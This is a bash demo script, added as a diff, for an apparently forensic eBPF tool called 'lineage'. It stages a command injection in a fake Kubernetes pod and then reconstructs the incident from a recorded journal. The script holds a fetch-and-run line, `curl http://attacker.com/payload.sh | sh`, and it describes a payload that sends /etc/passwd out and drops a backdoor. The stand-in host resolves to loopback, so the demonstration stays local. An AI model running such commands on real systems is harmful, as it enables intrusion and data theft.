@@ -1,0 +1,329 @@
+#!/bin/bash
+# lineage's built-in demo: an incident in a Kubernetes pod, replayed for real.
+#
+# A fake pod (real cgroups and namespaces, no Kubernetes) runs "my-app". A
+# command injection makes it run `curl http://attacker.com/payload.sh | sh`;
+# the payload reads /etc/passwd, sends it out, and drops a "backdoor". Two
+# `lineage record` runs watch: one records the whole node, one --kube-only.
+# Then the pod is "restarted", so nothing of it is left on the node, and
+# `lineage reconstruct` rebuilds what happened from the journal alone.
+#
+# attacker.com is a small HTTP server on 127.0.0.1: no traffic leaves the
+# loopback interface. Nothing is left behind: processes, cgroups and mounts
+# go away on exit, also when the demo fails or is interrupted.
+#
+# Usage: scripts/demo.sh [--lineage PATH] [--workdir DIR] [--keep]
+#   --lineage PATH  the lineage binary (default: build/lineage in the repo)
+#   --workdir DIR   work directory (must be new or empty; default: mktemp -d)
+#   --keep          keep the work directory: journals, incident.json, logs
+# Needs root, a kernel with eBPF and BTF, cgroup v2, python3, curl and wget.
+set -eu
+
+REPO=$(cd "$(dirname "$0")/.." && pwd)
+PAYLOAD_DIR=$REPO/scripts/demo-payload
+
+POD_NAME=my-app-6d4f9-xk2p1
+POD_NAMESPACE=production
+POD_UID=4c6a1b2e-8d3f-4e5a-9b7c-1d2e3f4a5b6c
+CONTAINER_ID=d78c990c760b4fc9fa8befc75383ddf9810045e03ecd9eed7a28641dd1a97097
+
+LINEAGE=$REPO/build/lineage
+WORK=
+KEEP=0
+
+usage() { echo "usage: $0 [--lineage PATH] [--workdir DIR] [--keep]"; }
+while [ $# -gt 0 ]; do
+    case $1 in
+    --lineage | --workdir)
+        [ $# -ge 2 ] || { usage >&2; exit 2; }
+        if [ "$1" = --lineage ]; then LINEAGE=$2; else WORK=$2; fi
+        shift 2
+        ;;
+    --keep) KEEP=1; shift ;;
+    -h | --help) usage; exit 0 ;;
+    *) usage >&2; exit 2 ;;
+    esac
+done
+
+say() { echo "demo: $*" >&2; }
+die() { echo "demo: error: $*" >&2; exit 1; }
+
+# ---------------------------------------------------------------- preflight
+
+[ "$(id -u)" = 0 ] || die "run me as root: lineage record loads eBPF programs, and the fake pod needs cgroups and namespaces"
+[ -f "$LINEAGE" ] && [ -x "$LINEAGE" ] || die "no lineage binary at $LINEAGE (build it first, or pass --lineage PATH)"
+LINEAGE=$(realpath "$LINEAGE")
+PYTHON=/usr/bin/python3
+[ -x "$PYTHON" ] || die "$PYTHON is missing (apt-get install python3)"
+for cmd in curl wget unshare mount realpath; do
+    command -v "$cmd" >/dev/null || die "$cmd is missing (on Debian: apt-get install curl wget util-linux mount coreutils)"
+done
+
+# The cgroup2 mount: /sys/fs/cgroup, or /sys/fs/cgroup/unified on a hybrid host.
+CG2=$(awk '{ for (i = 7; i < NF; i++) if ($i == "-") { if ($(i + 1) == "cgroup2") { print $5; exit } break } }' /proc/self/mountinfo)
+[ -n "$CG2" ] || die "no cgroup2 filesystem is mounted"
+# On a real node the kubelet owns kubepods: the demo would meddle with it.
+if [ -d "$CG2/kubepods" ] || [ -d "$CG2/kubepods.slice/kubepods-besteffort.slice" ]; then
+    die "this looks like a Kubernetes node ($CG2 has the kubelet's kubepods cgroups); run the demo on a test machine"
+fi
+
+# The pod's cgroups, systemd driver layout, outermost first: what lineage
+# parses the pod UID and the container ID from.
+CG_KUBEPODS=$CG2/kubepods.slice
+CG_QOS=$CG_KUBEPODS/kubepods-burstable.slice
+CG_POD=$CG_QOS/kubepods-burstable-pod$(echo "$POD_UID" | tr - _).slice
+CG_CONTAINER=$CG_POD/cri-containerd-$CONTAINER_ID.scope
+
+# ---------------------------------------------------------------- cleanup
+
+LISTENER_PID=
+RECORDER_PIDS=
+UNSHARE_PID=
+POD_INIT=
+WORK_OWNED=0
+
+# Is PID alive and not yet a zombie? (A zombie child still passes kill -0.)
+running() {
+    local state
+    state=$(sed 's/.*) //' "/proc/$1/stat" 2>/dev/null | cut -c1) || return 1
+    [ -n "$state" ] && [ "$state" != Z ]
+}
+
+# Stop one of our child processes: SIGNAL, up to 5 s of grace, then SIGKILL.
+# Reaps it and returns its exit status.
+stop_child() {
+    local pid=$1 sig=$2 i
+    kill "-$sig" "$pid" 2>/dev/null || true
+    for i in $(seq 50); do
+        running "$pid" || break
+        sleep 0.1
+    done
+    if running "$pid"; then
+        say "PID $pid ignored SIG$sig for 5 s: killing it"
+        kill -KILL "$pid" 2>/dev/null || true
+    fi
+    wait "$pid"
+}
+
+# Empty one cgroup of the demo and remove it. Any process still in it is
+# the demo's: it is killed, and if the kernel has not let go of it after a
+# moment, moved to the root cgroup, because rmdir needs an empty cgroup.
+remove_cgroup() {
+    local dir=$1 pid i
+    [ -d "$dir" ] || return 0
+    for pid in $(cat "$dir/cgroup.procs"); do kill -KILL "$pid" 2>/dev/null || true; done
+    for i in $(seq 30); do
+        grep -qx 'populated 0' "$dir/cgroup.events" && break
+        sleep 0.1
+    done
+    for pid in $(cat "$dir/cgroup.procs"); do echo "$pid" >"$CG2/cgroup.procs" 2>/dev/null || true; done
+    rmdir "$dir" || say "could not remove cgroup $dir"
+}
+
+# Leaf first: a cgroup with children cannot be removed. The pod's two
+# levels are named after the demo's pod: whatever is in them is the demo's.
+# The two above hold no process of the demo; they go when empty.
+remove_pod_cgroups() {
+    remove_cgroup "$CG_CONTAINER"
+    remove_cgroup "$CG_POD"
+}
+remove_all_cgroups() {
+    local dir
+    remove_pod_cgroups
+    for dir in "$CG_QOS" "$CG_KUBEPODS"; do
+        if [ -d "$dir" ]; then rmdir "$dir" || say "left cgroup $dir: it is in use"; fi
+    done
+}
+
+# Runs on every exit. Each step undoes only what is still there, so it is
+# safe to run at any point of the demo, and twice.
+cleanup() {
+    local rc=$? pid
+    set +e
+    trap '' INT TERM # finish cleaning even if interrupted again
+    trap - EXIT
+    # Killing the PID namespace's init kills every process of the pod. It is
+    # unshare's only child, even before it is known as POD_INIT. unshare
+    # then reaps it and exits (it holds SIGTERM back while it waits).
+    if [ -n "$UNSHARE_PID" ]; then
+        for pid in $POD_INIT $(cat "/proc/$UNSHARE_PID/task/$UNSHARE_PID/children" 2>/dev/null); do
+            kill -KILL "$pid" 2>/dev/null
+        done
+        stop_child "$UNSHARE_PID" TERM 2>/dev/null
+    fi
+    POD_INIT= UNSHARE_PID=
+    # SIGINT lets a recorder finish its journal.
+    for pid in $RECORDER_PIDS; do stop_child "$pid" INT 2>/dev/null; done
+    RECORDER_PIDS=
+    [ -n "$LISTENER_PID" ] && stop_child "$LISTENER_PID" TERM 2>/dev/null
+    LISTENER_PID=
+    # The mounts lived in the pod's mount namespace: they went with it.
+    remove_all_cgroups
+    if [ "$WORK_OWNED" = 1 ] && [ "$KEEP" = 0 ]; then
+        rm -rf -- "$WORK"
+        WORK_OWNED=0
+    fi
+    exit "$rc"
+}
+trap cleanup EXIT
+trap 'exit 130' INT
+trap 'exit 143' TERM
+
+# ---------------------------------------------------------------- 1. work dir
+
+if [ -n "$WORK" ]; then
+    mkdir -p -- "$WORK"
+    [ -z "$(ls -A -- "$WORK")" ] || die "--workdir $WORK is not empty"
+    WORK=$(realpath -- "$WORK")
+else
+    WORK=$(mktemp -d /tmp/lineage-demo.XXXXXX)
+fi
+WORK_OWNED=1
+say "work directory $WORK"
+
+# Waits up to SECONDS for FILE to contain a line matching REGEX while PID
+# runs. Fails, showing FILE, if PID dies or time runs out.
+wait_for_line() {
+    local file=$1 regex=$2 pid=$3 seconds=$4 what=$5 i
+    for i in $(seq $((seconds * 10))); do
+        grep -qE -- "$regex" "$file" 2>/dev/null && return 0
+        if ! running "$pid"; then
+            sed 's/^/    /' "$file" >&2 2>/dev/null
+            die "$what exited before it was ready (output above, from $file)"
+        fi
+        sleep 0.1
+    done
+    sed 's/^/    /' "$file" >&2 2>/dev/null
+    die "$what was not ready after $seconds s (output above, from $file)"
+}
+
+# ---------------------------------------------------------------- 2. the pod's cgroups and kubelet files
+
+# A stale pod from an interrupted run (SIGKILL skips cleanup) goes first.
+remove_all_cgroups
+mkdir -p "$CG_QOS"
+mkdir "$CG_POD" "$CG_CONTAINER"
+
+# The kubelet's log directory is where lineage learns the pod's name and
+# namespace at record time.
+mkdir -p "$WORK/kube/var/log/pods/${POD_NAMESPACE}_${POD_NAME}_${POD_UID}"
+
+# The pod's files, bind-mounted inside it by pod-init.sh.
+POD_DIR=$WORK/pod
+mkdir -p "$POD_DIR/usr-local/bin" "$POD_DIR/usr-local/lib/my-app"
+cp "$PAYLOAD_DIR/pod-init.sh" "$POD_DIR/pod-init.sh"
+cp -L /bin/sh "$POD_DIR/usr-local/bin/my-app"
+cp "$PAYLOAD_DIR/my-app.sh" "$POD_DIR/usr-local/lib/my-app/app.sh"
+mkfifo "$POD_DIR/usr-local/lib/my-app/requests"
+printf '127.0.0.1\tlocalhost\n127.0.0.1\tattacker.com\n127.0.0.1\t%s\n' "$POD_NAME" >"$POD_DIR/hosts"
+printf 'nameserver 127.0.0.1\n' >"$POD_DIR/resolv.conf"
+
+# ---------------------------------------------------------------- 3. attacker.com
+
+"$PYTHON" -I "$PAYLOAD_DIR/attacker.py" "$WORK" "$PAYLOAD_DIR/payload.sh" </dev/null >"$WORK/attacker.log" 2>&1 &
+LISTENER_PID=$!
+echo "$LISTENER_PID" >"$WORK/attacker.pid"
+wait_for_line "$WORK/attacker.log" '^attacker.com: listening' "$LISTENER_PID" 10 "the attacker.com listener"
+PORT=$(cat "$WORK/attacker.port")
+if [ "$PORT" = 80 ]; then ATTACKER=http://attacker.com; else ATTACKER=http://attacker.com:$PORT; fi
+say "attacker.com is 127.0.0.1:$PORT"
+
+# ---------------------------------------------------------------- 4. recorders
+
+# Both start before the pod, so they see it from its first exec. The
+# kubepods cgroup exists already, which --kube-only needs.
+"$LINEAGE" record --journal "$WORK/journal.db" --kube-root "$WORK/kube" </dev/null >"$WORK/record.log" 2>&1 &
+RECORD_ALL=$!
+RECORDER_PIDS="$RECORD_ALL"
+"$LINEAGE" record --kube-only --journal "$WORK/kube-only.db" --kube-root "$WORK/kube" </dev/null >"$WORK/record-kube-only.log" 2>&1 &
+RECORD_KUBE=$!
+RECORDER_PIDS="$RECORDER_PIDS $RECORD_KUBE"
+wait_for_line "$WORK/record.log" '^lineage: recording' "$RECORD_ALL" 20 "lineage record"
+wait_for_line "$WORK/record-kube-only.log" '^lineage: recording' "$RECORD_KUBE" 20 "lineage record --kube-only"
+say "recording: the whole node to journal.db, pods only to kube-only.db"
+
+# ---------------------------------------------------------------- 5. the pod
+
+# New UTS, PID and mount namespaces; pod-init.sh becomes PID 1 in them, sets
+# them up, joins the container cgroup and execs my-app. env -i: the pod gets
+# a container's clean environment (no proxy settings, no host variables).
+# The subshell execs env, which execs unshare: $! is unshare's PID.
+(
+    cd "$POD_DIR"
+    exec env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/ LANG=C.UTF-8 \
+        POD_HOSTNAME="$POD_NAME" POD_CGROUP_PROCS="$CG_CONTAINER/cgroup.procs" \
+        unshare --uts --pid --fork --mount --propagation private sh pod-init.sh
+) </dev/null >"$WORK/pod.log" 2>&1 &
+UNSHARE_PID=$!
+wait_for_line "$WORK/pod.log" '^my-app: ready' "$UNSHARE_PID" 10 "the pod"
+# my-app is the container's only process: the PID namespace's init.
+POD_INIT=$(cat "$CG_CONTAINER/cgroup.procs")
+case $POD_INIT in
+'' | *[!0-9]*) die "expected my-app alone in $CG_CONTAINER, found: $(echo $POD_INIT)" ;;
+esac
+say "pod $POD_NAMESPACE/$POD_NAME is up: my-app is PID $POD_INIT on the host, 1 in the pod"
+
+# The attack: one request whose text my-app runs with sh -c. The FIFO is
+# opened read-write so the write can never block.
+REQUEST="curl $ATTACKER/payload.sh | sh"
+say "sending my-app the injected request: $REQUEST"
+printf '%s\n' "$REQUEST" 1<>"$POD_DIR/usr-local/lib/my-app/requests"
+wait_for_line "$WORK/pod.log" '^my-app: request handled' "$UNSHARE_PID" 20 "the payload"
+grep -qx 'my-app: request handled (exit 0)' "$WORK/pod.log" || {
+    sed 's/^/    /' "$WORK/pod.log" >&2
+    die "the payload failed (pod output above)"
+}
+
+# ---------------------------------------------------------------- 6. the pod restarts
+
+# As after a restart, nothing of the pod is left to inspect: its processes
+# (killing the PID namespace's init kills them all), its namespaces (they
+# die with their last process, mounts included) and its cgroups.
+say "restarting the pod: its processes, namespaces and cgroups go away"
+kill -KILL "$POD_INIT"
+wait "$UNSHARE_PID" || true # unshare dies the way its child did
+POD_INIT= UNSHARE_PID=
+remove_pod_cgroups
+
+# A moment for the last exit events to reach the ring, then stop both.
+sleep 0.5
+status_all=0 status_kube=0
+stop_child "$RECORD_ALL" INT || status_all=$?
+stop_child "$RECORD_KUBE" INT || status_kube=$?
+RECORDER_PIDS=
+if [ "$status_all" != 0 ] || [ "$status_kube" != 0 ]; then
+    tail -n +1 "$WORK/record.log" "$WORK/record-kube-only.log" >&2
+    die "lineage record exited with status $status_all (whole node) and $status_kube (--kube-only); logs above"
+fi
+stop_child "$LISTENER_PID" TERM || true
+LISTENER_PID=
+
+# ---------------------------------------------------------------- 7. what the journal says
+
+"$LINEAGE" reconstruct --journal "$WORK/journal.db" --pod "$POD_NAME" --format json >"$WORK/incident.json" \
+    || die "lineage reconstruct --format json failed"
+cat <<EOF
+
+The pod $POD_NAMESPACE/$POD_NAME is gone: its processes, namespaces and cgroups
+no longer exist. This is what the journal alone still knows, from
+
+    lineage reconstruct --journal $WORK/journal.db --pod $POD_NAME
+
+Each line is one process: its command line ("a → b": it ran a, then exec'd b),
+its PID on the host and in the pod's PID namespace, when it started, and how
+it ended. "→ connect" lines are its TCP connections. The tree starts at the
+pod's first process, my-app (its first image is the demo's stand-in for
+runc init); its parent, unshare, is outside the pod.
+
+EOF
+"$LINEAGE" reconstruct --journal "$WORK/journal.db" --pod "$POD_NAME" || die "lineage reconstruct failed"
+echo
+if [ "$KEEP" = 1 ]; then
+    cat <<EOF
+Kept in $WORK:
+    journal.db      the whole node's journal
+    kube-only.db    the same run, recorded with --kube-only: the pod only
+    incident.json   the tree above, as JSON (--format json)
+    *.log           the recorders', the listener's and the pod's output
+EOF
+fi
